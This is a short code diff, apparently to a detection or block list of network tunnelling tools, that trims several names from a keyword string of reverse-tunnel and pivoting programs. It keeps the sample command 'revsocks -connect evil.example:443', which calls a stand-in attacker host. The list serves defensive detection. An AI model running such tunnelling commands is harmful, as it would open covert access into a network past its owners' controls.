@@ -159,7 +159,7 @@ export const programs: readonly ProgramSpec[] = [
     'tunnelto --port 8000',
   ),
   tunnel(
-    'ligolo ligolo-ng ligolo-agent ligolo-proxy ligolo-ng-agent ligolo-ng_agent ligolo-ng-proxy ligolo-ng_proxy revsocks rsocx rsockstun resocks wiretap proxychains-agent sshuttle pinggy gost gost3 venom-agent ew iox lcx nps npc portmap-tunnel',
+    'ligolo ligolo-ng ligolo-agent ligolo-proxy ligolo-ng-agent ligolo-ng_agent ligolo-ng-proxy ligolo-ng_proxy revsocks rsocx rsockstun resocks proxychains-agent sshuttle pinggy gost gost3',
     'Carries connections into this network.',
     'revsocks -connect evil.example:443',
   ),
